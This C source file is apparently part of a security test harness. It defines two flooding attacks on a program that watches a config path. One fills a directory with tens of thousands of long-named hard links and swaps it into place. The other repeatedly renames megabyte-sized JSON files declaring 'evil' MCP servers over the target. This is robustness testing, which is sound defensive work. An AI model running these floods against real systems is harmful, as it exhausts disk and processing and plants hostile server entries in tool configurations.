// More than anyone should keep: folders with too many names, and rejected files that are all different.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "attacker.h"

enum { links_of_a_file = 60000, longest_name = 240 };

// Each round is a name of one folder, by hard links so that it costs next to nothing. The folder is
// then put in the target's place.
static void crowd_folder(long rounds, char **arguments) {
  (void)arguments;
  char name[longest_name + 1];
  mkdir(ASIDE, 0700);
  int folder = open(ASIDE, O_PATH | O_CLOEXEC);
  for (long round = 0; round < rounds; round++) {
    const char *source = path_of("crowd-%ld", round / links_of_a_file);
    if (round % links_of_a_file == 0) make_file(source, "", 0600);
    int start = snprintf(name, sizeof name, "%ld-", round);
    memset(name + start, 'n', (size_t)(longest_name - start));
    name[longest_name] = 0;
    if (linkat(AT_FDCWD, source, folder, name, 0) < 0) fail("link");
  }
  close(folder);
  swap_names(ASIDE, TARGET);
}

// Files as large as are read, each with other bytes, each left until it was taken away.
static void vary_content(long rounds, char **arguments) {
  (void)arguments;
  static char text[1 << 20];
  memset(text, ' ', sizeof text - 1);
  for (long round = 0; round < rounds; round++) {
    snprintf(text, sizeof text, "{\"mcpServers\":{\"evil-%ld\":{\"command\":\"x\"}}}", round);
    text[strlen(text)] = ' ';
    make_file(ASIDE, text, 0644);
    struct stat own, there;
    if (lstat(ASIDE, &own) < 0) fail(ASIDE);
    rename(ASIDE, TARGET);
    for (int look = 0; look < 400; look++) {
      if (lstat(TARGET, &there) < 0 || there.st_ino != own.st_ino) break;
      rest(500);
    }
  }
}

const struct attack flood_attacks[] = {
    {"crowd-folder", crowd_folder}, {"vary-content", vary_content}, {NULL, NULL}};
